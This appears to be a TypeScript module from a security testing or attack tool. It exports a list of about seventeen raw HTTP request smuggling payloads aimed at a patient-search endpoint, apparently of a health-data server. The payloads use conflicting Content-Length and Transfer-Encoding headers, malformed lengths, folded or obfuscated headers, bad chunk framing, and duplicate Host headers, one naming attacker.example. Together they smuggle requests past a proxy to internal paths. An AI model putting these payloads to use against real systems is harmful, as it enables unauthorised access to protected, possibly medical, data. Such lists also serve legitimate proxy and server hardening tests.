import type { Headers } from './walk-victim.ts';

/** What is sent, with the headers of both keys, and a patient to come to. */
interface Load {
  readonly keys: Headers;
  readonly target: string;
}

/** Requests that are one to the server and two to the proxy before it, or the other way round. */
export const SMUGGLINGS: readonly (readonly [name: string, bytes: (load: Load) => string])[] = [
  [
    'Content-Length and Transfer-Encoding',
    (load) => post(load, 'Content-Length: 4\r\nTransfer-Encoding: chunked\r\n', `0\r\n\r\n${smuggled(load)}`),
  ],
  [
    'Transfer-Encoding and Content-Length',
    (load) => post(load, 'Transfer-Encoding: chunked\r\nContent-Length: 5\r\n', `0\r\n\r\n${smuggled(load)}`),
  ],
  ['two lengths', (load) => post(load, 'Content-Length: 0\r\nContent-Length: 5\r\n', `aaaaa${smuggled(load)}`)],
  ['a list of lengths', (load) => post(load, 'Content-Length: 0, 5\r\n', `aaaaa${smuggled(load)}`)],
  ['a length with a sign', (load) => post(load, 'Content-Length: +0\r\n', smuggled(load))],
  ['a length in hexadecimal', (load) => post(load, 'Content-Length: 0x0\r\n', smuggled(load))],
  ['a length below zero', (load) => post(load, 'Content-Length: -1\r\n', smuggled(load))],
  ['a space before the colon', (load) => post(load, 'Transfer-Encoding : chunked\r\n', `0\r\n\r\n${smuggled(load)}`)],
  ['an encoding that is none', (load) => post(load, 'Transfer-Encoding: xchunked\r\n', `0\r\n\r\n${smuggled(load)}`)],
  [
    'chunks that are not last',
    (load) => post(load, 'Transfer-Encoding: chunked, identity\r\n', `0\r\n\r\n${smuggled(load)}`),
  ],
  ['a folded header', (load) => post(load, 'Transfer-Encoding:\r\n chunked, x\r\n', `0\r\n\r\n${smuggled(load)}`)],
  ['a chunk of no size', (load) => post(load, 'Transfer-Encoding: chunked\r\n', `x\r\n\r\n${smuggled(load)}`)],
  [
    'a chunk of too large a size',
    (load) => post(load, 'Transfer-Encoding: chunked\r\n', `${'f'.repeat(17)}\r\n\r\n${smuggled(load)}`),
  ],
  [
    'a chunk that ends with a line feed alone',
    (load) => post(load, 'Transfer-Encoding: chunked\r\n', `0\n\n${smuggled(load)}`),
  ],
  ['a bare carriage return', (load) => post(load, 'X-A: 1\rTransfer-Encoding: chunked\r\n', smuggled(load))],
  [
    'two Hosts',
    (load) => `GET /metadata HTTP/1.1\r\nHost: 127.0.0.1\r\nHost: attacker.example\r\n\r\n${smuggled(load)}`,
  ],
  ['no Host', (load) => `GET /metadata HTTP/1.1\r\n\r\n${smuggled(load)}`],
];

function smuggled({ keys, target }: Load): string {
  return `GET ${target} HTTP/1.1\r\nHost: 127.0.0.1\r\n${lines(keys)}\r\n`;
}

function post({ keys }: Load, headers: string, body: string): string {
  return `POST /Patient/_search HTTP/1.1\r\nHost: 127.0.0.1\r\n${lines(keys)}${headers}\r\n${body}`;
}

function lines(headers: Headers): string {
  return Object.entries(headers)
    .map(([name, value]) => `${name}: ${value}\r\n`)
    .join('');
}
